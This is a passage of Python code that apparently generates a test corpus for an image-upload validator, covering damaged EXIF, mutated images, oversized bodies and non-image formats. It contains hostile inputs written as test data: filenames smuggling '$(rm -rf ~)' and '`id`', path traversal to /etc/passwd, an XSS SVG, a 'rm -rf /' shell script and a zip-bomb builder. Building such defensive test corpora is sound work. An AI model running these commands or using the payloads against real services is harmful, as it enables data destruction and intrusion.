    b.add("exif_gps", "jpeg with GPS in XMP", _jpeg_with_segment(b.jpeg((160, 90)), _jpeg_segment(0xE1, xmp)),
          expect=ACCEPT, filename="IMG_0104.jpg")
    damaged = {
        "EXIF offset past the end": b"Exif\x00\x00MM\x00\x2a\xff\xff\xff\xf0",
        "EXIF entry count 65535": b"Exif\x00\x00MM\x00\x2a\x00\x00\x00\x08\xff\xff" + bytes(20),
        "orientation 9": b"Exif\x00\x00MM\x00\x2a\x00\x00\x00\x08\x00\x01\x01\x12\x00\x03\x00\x00\x00\x01\x00\x09\x00\x00\x00\x00\x00\x00",
        "orientation as a huge LONG": b"Exif\x00\x00MM\x00\x2a\x00\x00\x00\x08\x00\x01\x01\x12\x00\x04\x00\x00\x00\x01\xff\xff\xff\xff\x00\x00\x00\x00",
        "IFD pointing at itself": b"Exif\x00\x00MM\x00\x2a\x00\x00\x00\x08\x00\x01\x87\x69\x00\x04\x00\x00\x00\x01\x00\x00\x00\x08\x00\x00\x00\x08",
        "GPS IFD pointing at itself": b"Exif\x00\x00MM\x00\x2a\x00\x00\x00\x08\x00\x01\x88\x25\x00\x04\x00\x00\x00\x01\x00\x00\x00\x08\x00\x00\x00\x08",
        "TIFF header cut short": b"Exif\x00\x00MM\x00",
        "unknown byte order": b"Exif\x00\x00XX\x00\x2a\x00\x00\x00\x08",
    }
    for label, payload in damaged.items():
        b.add("exif_gps", f"jpeg with damaged EXIF: {label}",
              _jpeg_with_segment(b.jpeg((160, 90)), _jpeg_segment(0xE1, payload)), expect=ACCEPT, filename="odd-exif.jpg")


_HOSTILE_NAMES = [
    "../../../../etc/passwd.jpg", "..\\..\\..\\windows\\win.ini.jpg", "/etc/shadow.jpg", "C:\\boot.ini.jpg",
    "\\\\server\\share\\photo.jpg", "photo.jpg\x00.html", "photo\x00", "\u202egpj.exe", "photo\u202egnp.html",
    "invoice\u202dfdp.jpg", "zero\u200bwidth\u200f.jpg", "A" * 300 + ".jpg", "Ä" * 300 + ".jpg",
    "🙂" * 300 + ".jpg", "x" * 1000 + ".png", "new\nline.jpg", "carriage\rreturn.jpg", "tab\tname.jpg",
    "bell\x07escape\x1b[31m.jpg", "del\x7f.jpg", "$(rm -rf ~).jpg", "`id`.jpg", "<script>alert(1)</script>.jpg",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd.jpg", 'quote".jpg', "semi;colon.jpg", "CON.jpg", "aux", ".htaccess",
    "photo.jpg.php", "photo.php%00.jpg", "photo.", "..", ".", " ", "e\u0301\u0301\u0301.jpg", "ﬁle.jpg",
    "photo.JPG", "image/../../x.jpg", "a/b/c/d/e/f/g/h/i/j/k/l/m/n/o/p/photo.jpg",
]


def _filenames(b: _Builder) -> None:
    makers = (("jpeg", lambda: b.jpeg((120, 90)), "image/jpeg"), ("png", lambda: b.png((120, 90)), "image/png"),
              ("webp", lambda: b.webp((120, 90), quality=80), "image/webp"))
    for index, name in enumerate(_HOSTILE_NAMES):
        kind, make, content_type = makers[index % len(makers)]
        b.add("filename", f"{kind} named {name[:40]!r}{' (long)' if len(name) > 40 else ''} #{index}", make(),
              expect=ACCEPT, filename=name, content_type=content_type)


def _content_types(b: _Builder) -> None:
    wrong = ["text/html", "application/javascript", "image/svg+xml", "application/octet-stream", "image/gif",
             "application/x-msdownload", "text/html; charset=utf-8", "image/jpeg; <script>", "multipart/form-data",
             "", "x/y/z", "image/png", "image/webp"]
    for index, content_type in enumerate(wrong):
        data = b.jpeg((100, 75)) if index % 2 else b.png((100, 75))
        b.add("content_type", f"genuine {'jpeg' if index % 2 else 'png'} sent as {content_type or '(none)'!r}", data,
              expect=ACCEPT, filename="photo.bin" if index % 3 == 0 else "photo.jpg", content_type=content_type)
    hostile = {"html": (_PAYLOADS[1], MARKUP_REASONS), "svg": (b'<svg onload="alert(1)"/>', MARKUP_REASONS),
               "gif": (b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", FORMAT_REASONS),
               "exe": (b"MZ\x90\x00" + bytes(60) + b"PE\x00\x00", FORMAT_REASONS),
               "elf": (b"\x7fELF\x02\x01\x01" + bytes(57), FORMAT_REASONS),
               "javascript": (b"alert(1)", FORMAT_REASONS)}
    for label, (data, reasons) in hostile.items():
        for content_type in ("image/jpeg", "image/png", "image/webp"):
            b.add("content_type", f"{label} sent as {content_type}", data, expect=REFUSE, filename="photo.jpg",
                  content_type=content_type, reasons=reasons)


def _formats(b: _Builder) -> None:
    picture = b.picture((48, 32))
    # (Pillow's PDF writer stamps the time, so a PDF is among the crafted files below.)
    for fmt, options in (("GIF", {}), ("BMP", {}), ("TIFF", {}), ("TIFF", {"compression": "tiff_deflate"}),
                         ("ICO", {}), ("PCX", {}), ("TGA", {}), ("PPM", {}), ("SGI", {}), ("IM", {}),
                         ("DIB", {}), ("EPS", {}), ("ICNS", {}), ("DDS", {}), ("SPIDER", {}),
                         ("XBM", {}), ("QOI", {}), ("JPEG2000", {}), ("PALM", {}), ("MSP", {})):
        try:
            mode = {"XBM": "1", "PALM": "1", "MSP": "1", "SPIDER": "F"}.get(fmt, "RGB")
            image = picture.convert(mode)
            data = _encode(image, fmt, **options)
        except (OSError, KeyError, ValueError):
            continue  # a writer this Pillow does not have
        label = f"{fmt.lower()}{' ' + str(options['compression']) if options else ''}"
        b.add("format", label, data, expect=REFUSE, filename=f"image.{fmt.lower()}",
              content_type="application/octet-stream", reasons=FORMAT_REASONS)
        b.add("format", f"{label} named jpg", data, expect=REFUSE, filename="image.jpg", reasons=FORMAT_REASONS)
    crafted = {
        "pdf": b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF",
        "zip": _zip({"a.txt": b"hello"}), "gzip": gzip.compress(b"hello", mtime=0),
        "elf": b"\x7fELF\x02\x01\x01" + bytes(57), "pe": b"MZ\x90\x00" + bytes(60) + b"PE\x00\x00",
        "mach-o": b"\xcf\xfa\xed\xfe" + bytes(28), "shell script": b"#!/bin/sh\nrm -rf /\n",
        "heic": b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(64),
        "avif": b"\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1miaf" + bytes(64),
        "jpeg xl codestream": b"\xff\x0a" + bytes(64),
        "jpeg xl container": b"\x00\x00\x00\x0cJXL \r\n\x87\n" + bytes(64),
        "psd": b"8BPS\x00\x01" + bytes(64), "riff wave": b"RIFF\x24\x00\x00\x00WAVEfmt " + bytes(32),
        "riff avi": b"RIFF\x24\x00\x00\x00AVI LIST" + bytes(32),
        "webp with unknown chunk": _riff_webp(_riff_chunk(b"ABCD", bytes(32))),
        "mp4": b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + bytes(64),
        "java class": b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(32), "sqlite": b"SQLite format 3\x00" + bytes(84),
        "pickle": b"\x80\x04\x95\x0c\x00\x00\x00\x00\x00\x00\x00\x8c\x02os\x94.",
        "xpm": b'/* XPM */\nstatic char *x[] = {"1 1 1 1", "a c #000000", "a"};',
        "wmf": b"\xd7\xcd\xc6\x9a" + bytes(64), "fits": b"SIMPLE  =                    T" + b" " * 50,
    }
    for label, data in crafted.items():
        b.add("format", f"crafted {label}", data, expect=REFUSE, filename="photo.jpg",
              reasons=FORMAT_REASONS + MARKUP_REASONS)


def _oversize(b: _Builder) -> None:
    # Larger than the default image limit (25 MiB), with an image's magic bytes in front.
    size = 25 * 1024 * 1024 + 1
    b.add("oversize", "jpeg-looking 25 MiB + 1 byte", b.jpeg()[:-2] + bytes(size), expect=REFUSE,
          filename="huge.jpg", reasons=("MB; the limit", "larger than", "too large"))
    b.add("oversize", "png-looking 25 MiB + 1 byte", _PNG_SIGNATURE + bytes(size), expect=REFUSE,
          filename="huge.png", content_type="image/png", reasons=("MB; the limit", "larger than", "too large"))


def _mutations(b: _Builder) -> None:
    bases = [b.jpeg((128, 96)), b.jpeg((128, 96), progressive=True), b.png((128, 96)), b.png((128, 96), "RGBA"),
             b.webp((128, 96), quality=80), b.webp((128, 96), lossless=True)]
    names = ["m.jpg", "m.jpg", "m.png", "m.png", "m.webp", "m.webp"]
    seen: set[bytes] = set()
    for index in range(90):
        which = index % len(bases)
        how = index // len(bases) % 5
        data = _mutate(b.rng, bases[which], how)
        while data in seen or data == bases[which]:  # each mutation a file of its own
            data = _mutate(b.rng, bases[which], how)
        seen.add(data)
        kind = ("bit flips", "overwrite", "insert", "delete", "length")[how]
        b.add("mutated", f"{names[which]} mutation {index} ({kind})", data, expect=EITHER, filename=names[which],
              content_type={"jpg": "image/jpeg", "png": "image/png", "webp": "image/webp"}[names[which][2:]])


def _mutate(rng: random.Random, base: bytes, how: int) -> bytes:
    """A seeded mutation of a genuine image: the sort of damage a fuzzer makes."""
    data = bytearray(base)
    if how == 0:  # bit flips outside the first 16 bytes
        for _ in range(rng.randrange(1, 8)):
            data[rng.randrange(16, len(data))] ^= 1 << rng.randrange(8)
    elif how == 1:  # a run of bytes overwritten
        at = rng.randrange(16, len(data) - 8)
        data[at:at + 8] = rng.randbytes(8)
    elif how == 2:  # bytes inserted
        at = rng.randrange(16, len(data))
        data[at:at] = rng.randbytes(rng.randrange(1, 64))
    elif how == 3:  # bytes deleted
        at = rng.randrange(16, len(data) - 64)
        del data[at:at + rng.randrange(1, 64)]
    else:  # a length field made huge
        at = rng.randrange(16, min(200, len(data) - 4))
        data[at:at + 4] = b"\x7f\xff\xff\xff"
    return bytes(data)


def _zip_damaged(data: bytes, how: str) -> bytes:
    """A one-entry ZIP ("image.jpg") whose directory is sound and whose entry is not."""
    zipped = bytearray(_zip({"image.jpg": data}, compression=zipfile.ZIP_STORED if how == "crc" else zipfile.ZIP_DEFLATED))
    local, central = 0, zipped.rfind(b"PK\x01\x02")
    body = local + 30 + len("image.jpg")
    if how == "crc":
        zipped[body + len(data) // 2] ^= 0xFF
    elif how == "deflate":
        zipped[body + 4:body + 24] = b"\xff" * 20
    elif how == "encrypted":
        zipped[local + 6] |= 1
        zipped[central + 8] |= 1
    else:
        zipped[local + 8] = zipped[central + 10] = 99
    return bytes(zipped)


def _archives(b: _Builder) -> None:
    """ZIPs, as the images archive of a dossier import (and as one more non-image elsewhere)."""
    photo = b.jpeg()
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        info = zipfile.ZipInfo("image.jpg", date_time=(2024, 1, 1, 0, 0, 0))
        info.compress_type = zipfile.ZIP_DEFLATED
        with archive.open(info, "w", force_zip64=True) as entry:
            block = bytes(1 << 20)
            for _ in range(64):
                entry.write(block)
    archives = {
        "zip bomb (64 MB of zeros in 64 KB)": bomb.getvalue(),
        "zip entry ../../image.jpg": _zip({"../../image.jpg": photo}),
        "zip entry /etc/image.jpg": _zip({"/etc/image.jpg": photo}),
        "zip entry C:\\image.jpg": _zip({"C:\\image.jpg": photo}),
        "zip entry with a backslash": _zip({"dir\\..\\image.jpg": photo}),
        "zip of 6000 entries": _zip({f"f{i}.txt": b"" for i in range(6000)}, compression=zipfile.ZIP_STORED),
        "zip inside a zip": _zip({"image.jpg": _zip({"image.jpg": photo})}),
        "zip cut short": _zip({"image.jpg": photo})[:-30],
        "zip declaring a 4 GB entry": _zip({"image.jpg": photo}).replace(
            struct.pack("<I", len(photo)), struct.pack("<I", 0xFFFFFFF0)),
        "zip holding svg as image.jpg": _zip({"image.jpg": b'<svg onload="alert(1)"/>'}),
        "zip entry with a bad CRC": _zip_damaged(photo, "crc"),
        "zip entry with broken deflate data": _zip_damaged(photo, "deflate"),
        "zip entry marked encrypted": _zip_damaged(photo, "encrypted"),
        "zip entry with an unknown compression method": _zip_damaged(photo, "method"),
    }
    for label, data in archives.items():
        b.add("archive", label, data, expect=REFUSE, filename="images.zip", content_type="application/zip",
              reasons=FORMAT_REASONS + ("ZIP", "zip", "image.jpg"))


def _huge_bodies(b: _Builder) -> None:
    """Bodies sent with ``Transfer-Encoding: chunked``, made as they are sent: 1 GiB, far over
    every limit, and 120 MiB, under the request limit but over every image limit."""
    head = b.jpeg()[:-2]

    def stream(total: int) -> Callable[[], Iterator[bytes]]:
        def chunks() -> Iterator[bytes]:
            yield head
            block = bytes(1 << 20)
            left = total - len(head)
            while left > 0:
                yield block[:min(left, len(block))]
                left -= len(block)
        return chunks

    for label, total in (("1 GiB chunked photo", 1 << 30), ("120 MiB chunked photo", 120 << 20)):
        b.add("huge_body", label, b"", expect=REFUSE, filename="huge.jpg",
              reasons=("too large", "Too Large", "larger than", "limit"), chunks=stream(total), size=total)


@lru_cache(maxsize=2)
def corpus(seed: int = SEED) -> tuple[Upload, ...]:
    """Every file of the corpus, in a fixed order; the same bytes for the same seed."""
    builder = _Builder(seed)
    for part in (_controls, _pixel_floods, _bombs, _polyglots, _markup, _truncated, _exif_photos, _filenames,
                 _content_types, _formats, _oversize, _mutations, _archives, _huge_bodies):
        part(builder)
    return tuple(builder.items)


def categories(items: tuple[Upload, ...]) -> dict[str, list[Upload]]:
    grouped: dict[str, list[Upload]] = {}
    for item in items:
        grouped.setdefault(item.category, []).append(item)
    return grouped


def sample(items: tuple[Upload, ...], per_category: int, *, seed: int = SEED) -> list[Upload]:
    """Every control, and ``per_category`` files of every other category (chosen by the
    seed, so that every category is always represented)."""
    rng = random.Random(seed)
    picked: list[Upload] = []
    for category, group in categories(items).items():
        if category == "control":
            picked.extend(group)
        else:
            picked.extend(rng.sample(group, min(per_category, len(group))))
    return picked


if __name__ == "__main__":
    import time

    began = time.perf_counter()
    items = corpus()
    print(f"{len(items)} files in {time.perf_counter() - began:.1f} s")
    for category, group in categories(items).items():
        expects = {e: sum(1 for i in group if i.expect == e) for e in (ACCEPT, REFUSE, EITHER)}
        print(f"  {category:20} {len(group):4}  {expects}  {sum(i.length for i in group) / 1e6:,.1f} MB")
